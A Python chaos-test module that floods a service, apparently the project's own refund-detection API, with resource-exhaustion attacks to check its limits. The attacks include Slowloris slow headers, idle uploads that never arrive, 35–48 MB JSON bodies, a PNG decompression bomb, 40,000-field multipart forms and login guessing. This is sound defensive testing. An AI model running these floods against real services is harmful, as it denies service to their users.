"""Attacks that try to take what others need (OWASP API4:2023, unrestricted resource consumption, and API6).

Each is a function of a target and the moment to stop; it gives how often the service answered with what. They run in a
process of their own, with the lowest priority: an attacker has a machine of its own, and does not take the service's
processors by the attack's own work.
"""

import io
import json
import socket
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from urllib.parse import urlsplit

import httpx

from refundlens.serving.kit.roles import Role
from tests.chaos.attacks.target import ATTACKER, Target, noise

Got = Counter[str]
Flood = Callable[[Target, float, Got], None]
"""target, the monotonic time to stop at, what was got."""
JPEG = {"Content-Type": "image/jpeg"}
JSON = {"Content-Type": "application/json"}
ELSEWHERE = "127.0.0.2"
"""An address that is no trusted proxy's."""


def _again(stop: float, got: Got, ask: Callable[[httpx.Client], httpx.Response]) -> None:
    with httpx.Client(timeout=60) as client:
        while time.monotonic() < stop:
            try:
                answer = ask(client)
                got[_said(answer)] += 1
            except httpx.HTTPError as error:
                got[type(error).__name__] += 1


def _said(answer: httpx.Response) -> str:
    code = ""
    if "problem+json" in answer.headers.get("content-type", ""):
        code = f" {answer.json()['code']}"
    return f"{answer.status_code}{code}"


def _status(told: bytes) -> str:
    """Of a raw answer's beginning."""
    return told.split(b" ")[1].decode() if b" " in told else "closed"


def _at_once(number: int, stop: float, got: Got, ask: Callable[[httpx.Client], httpx.Response]) -> None:
    threads = [threading.Thread(target=_again, args=(stop, got, ask)) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def json_of_35_mb(target: Target, stop: float, got: Got) -> None:
    """Eleven million texts in a list: it froze the process of 0de9c60 for minutes."""
    body = b'{"image":[' + b'"",' * 11_000_000 + b'""]}'
    headers = target.headers(ATTACKER, **JSON)
    _at_once(
        2, stop, got, lambda client: client.post(f"{target.base}/v1/detect", content=body, headers=headers)
    )


def json_just_below_the_limits(target: Target, stop: float, got: Got) -> None:
    """As many faults as a body may have, again and again."""
    pictures = [{"data": "", "colour": 1} for _ in range(600)]
    body = json.dumps({"image": pictures}).encode()
    headers = target.headers(ATTACKER, **JSON)
    _at_once(
        4, stop, got, lambda client: client.post(f"{target.base}/v1/detect", content=body, headers=headers)
    )


def photos_in_json(target: Target, stop: float, got: Got) -> None:
    """Bodies of 48 MB whose base64 is of nothing."""
    body = b'{"image":"' + b"QUJD" * 12_000_000 + b'"}'
    headers = target.headers(ATTACKER, **JSON)
    _at_once(
        3, stop, got, lambda client: client.post(f"{target.base}/v1/detect", content=body, headers=headers)
    )


def _idle(target: Target, stop: float, got: Got, path: str, header: str, number: int = 12) -> None:
    """Bodies of 64 MB that are announced and never come."""
    address = urlsplit(target.base)
    while time.monotonic() < stop:
        connections = []
        for _ in range(number):
            made = socket.create_connection((address.hostname or "", address.port or 0), timeout=10)
            head = (
                f"POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: image/jpeg\r\ncontent-length: 63000000\r\n"
            )
            made.sendall(f"{head}{header}\r\n\r\nxxxx".encode())
            connections.append(made)
        for made in connections:
            made.settimeout(max(0.1, min(stop - time.monotonic(), 15)))
            try:
                got[_status(made.recv(64))] += 1
            except TimeoutError:
                got["held until the end"] += 1
            made.close()


def idle_uploads_with_a_key(target: Target, stop: float, got: Got) -> None:
    """Four of these locked every tenant of 0de9c60 out."""
    _idle(target, stop, got, "/v1/detect", f"authorization: {target.headers(ATTACKER)['Authorization']}")


def idle_uploads_of_a_visitor(target: Target, stop: float, got: Got) -> None:
    """The same without any key."""
    visit = httpx.get(target.base + "/")
    cookie = "; ".join(f"{name}={value}" for name, value in visit.cookies.items())
    _idle(target, stop, got, "/check", f"cookie: {cookie}")


def idle_uploads_by_a_link(target: Target, stop: float, got: Got) -> None:
    """The same from a buyer."""
    _idle(target, stop, got, f"{target.link}/photos", "accept: application/json")


def slow_headers(target: Target, stop: float, got: Got) -> None:
    """A byte of a header now and then, on three hundred connections (Slowloris)."""
    address = urlsplit(target.base)
    while time.monotonic() < stop:
        connections: list[socket.socket] = []
        for _ in range(300):
            try:
                made = socket.create_connection(
                    (address.hostname or "", address.port or 0), 5, source_address=(ELSEWHERE, 0)
                )
                made.sendall(b"GET / HTTP/1.1\r\nx: ")
                connections.append(made)
            except OSError:
                got["no connection"] += 1
        ends = min(stop, time.monotonic() + 13)
        while time.monotonic() < ends:
            for made in list(connections):
                try:
                    made.sendall(b"y")
                    made.settimeout(0.001)
                    if told := made.recv(64):
                        got[told.split(b" ")[1].decode()] += 1
                    made.close()
                    connections.remove(made)
                except TimeoutError:
                    continue
                except OSError:
                    got["closed"] += 1
                    connections.remove(made)
            time.sleep(0.5)
        got["held"] += len(connections)
        for made in connections:
            made.close()


def long_headers(target: Target, stop: float, got: Got) -> None:
    """One header of a megabyte, and one that never ends."""
    address = urlsplit(target.base)
    while time.monotonic() < stop:
        with socket.create_connection((address.hostname or "", address.port or 0), timeout=10) as made:
            try:
                made.sendall(b"GET / HTTP/1.1\r\nx: " + b"y" * 1_000_000)
                got[_status(made.recv(64))] += 1
            except OSError:
                got["closed"] += 1


def large_photos(target: Target, stop: float, got: Got) -> None:
    """Photos of 12 megapixels, twelve at a time, all of one tenant."""
    photo, headers = noise(4000, 3000, 5), target.headers(ATTACKER, **JPEG, **{"Cache-Control": "no-store"})
    _at_once(
        12, stop, got, lambda client: client.post(f"{target.base}/v1/detect", content=photo, headers=headers)
    )


def photos_of_visitors(target: Target, stop: float, got: Got) -> None:
    """The same on the demo's page, without any key."""
    cookies = dict(httpx.get(target.base + "/").cookies)
    photo = noise(2000, 1500, 6)

    def ask(client: httpx.Client) -> httpx.Response:
        files = [("image", ("a.jpg", photo))]
        return client.post(f"{target.base}/check", files=files, cookies=cookies)

    _at_once(12, stop, got, ask)


def bombs(target: Target, stop: float, got: Got) -> None:
    """A PNG of a few kilobytes that says it is 30,000 pixels a side."""
    size = 30_000
    packed = zlib.compress(bytes(1_000_000), 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = size.to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    file = io.BytesIO()
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b""))
    body, headers = file.getvalue(), target.headers(ATTACKER, **{"Content-Type": "image/png"})
    _at_once(
        4, stop, got, lambda client: client.post(f"{target.base}/v1/detect", content=body, headers=headers)
    )


def heat_maps(target: Target, stop: float, got: Got) -> None:
    """Forty heat maps of a large photo at a time."""
    url, headers = f"{target.base}/v1/detections/{target.mine}/heatmap", target.headers(ATTACKER)
    _at_once(40, stop, got, lambda client: client.get(url, headers=headers))


def documents(target: Target, stop: float, got: Got) -> None:
    """Twenty PDFs at a time."""
    url, headers = (
        f"{target.base}/v1/detections/{target.mine}/evidence.pdf",
        target.headers(ATTACKER, Role.ADMIN),
    )
    _at_once(20, stop, got, lambda client: client.get(url, headers=headers))


def many_parts(target: Target, stop: float, got: Got) -> None:
    """A form of forty thousand fields."""
    part = b'--x\r\nContent-Disposition: form-data; name="claim"\r\n\r\nhole\r\n'
    body = part * 40_000 + b"--x--\r\n"
    headers = target.headers(ATTACKER, **{"Content-Type": "multipart/form-data; boundary=x"})
    _at_once(
        3, stop, got, lambda client: client.post(f"{target.base}/v1/detect", content=body, headers=headers)
    )


def wrong_logins(target: Target, stop: float, got: Got) -> None:
    """Keys tried out at the console's door (API2:2023)."""
    _at_once(4, stop, got, lambda client: client.post(f"{target.base}/login", data={"key": "rl_guess"}))


def openapi(target: Target, stop: float, got: Got) -> None:
    """The largest answer that anybody may have."""
    _at_once(8, stop, got, lambda client: client.get(f"{target.base}/openapi.json"))


FLOODS: tuple[Flood, ...] = (
    json_of_35_mb, json_just_below_the_limits, photos_in_json, idle_uploads_with_a_key, idle_uploads_of_a_visitor,
    idle_uploads_by_a_link, slow_headers, long_headers, large_photos, photos_of_visitors, bombs, heat_maps, documents,
    many_parts, wrong_logins, openapi,
)  # fmt: skip
